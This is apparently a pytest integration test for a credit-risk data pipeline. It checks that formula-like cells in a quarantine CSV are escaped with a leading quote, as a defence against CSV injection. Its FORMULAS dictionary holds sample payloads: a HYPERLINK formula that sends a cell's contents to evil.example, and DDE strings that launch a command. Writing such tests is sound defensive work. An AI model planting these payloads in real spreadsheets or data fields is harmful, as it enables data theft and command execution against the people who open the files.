"""Quarantined rows are a CSV the credit team opens in a spreadsheet: a cell that starts
like a formula must be shown, never run (OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io

import pytest

from conftest import to_csv_bytes
from credit_risk_local.cloud import LocalCloud

pytestmark = pytest.mark.integration

FORMULAS = {
    "full_name": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "email": "+cmd|' /C calc'!A0",
    "phone": "-2+3+cmd|' /C calc'!A0",
    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    "national_id": "\t=1+1",
    "housing_status": "\r=1+1",
}


def test_cells_that_start_like_formulas_are_quoted_in_the_quarantine_copy(
    cloud: LocalCloud, small_data
) -> None:
    # GIVEN a file whose bad row holds formula-like text in several columns, and a
    # column whose name is itself a formula
    frame = small_data.applications.head(20).copy().astype(object)
    for column, text in FORMULAS.items():
        frame.loc[5, column] = text
    frame["=1+2"] = "x"

    # WHEN it lands and the bad row (housing_status is not a category) is quarantined
    cloud.upload("applications/formulas.csv", to_csv_bytes(frame))
    cloud.wait_for_idle()

    # THEN every such cell (and the column name) in rows.csv starts with a single quote
    s3 = cloud.client("s3")
    listing = s3.list_objects_v2(Bucket=cloud.raw_bucket, Prefix="quarantine/")
    key = next(o["Key"] for o in listing["Contents"] if o["Key"].endswith("rows.csv"))
    text = s3.get_object(Bucket=cloud.raw_bucket, Key=key)["Body"].read().decode()
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1
    assert "'=1+2" in header and "=1+2" not in header
    cells = dict(zip(header, rows[0], strict=True))
    for column, formula in FORMULAS.items():
        assert cells[column] == "'" + formula
    # AND no cell anywhere starts like a formula
    starts = ("=", "+", "-", "@", "\t", "\r")
    assert not [c for c in header + rows[0] if c.startswith(starts)]
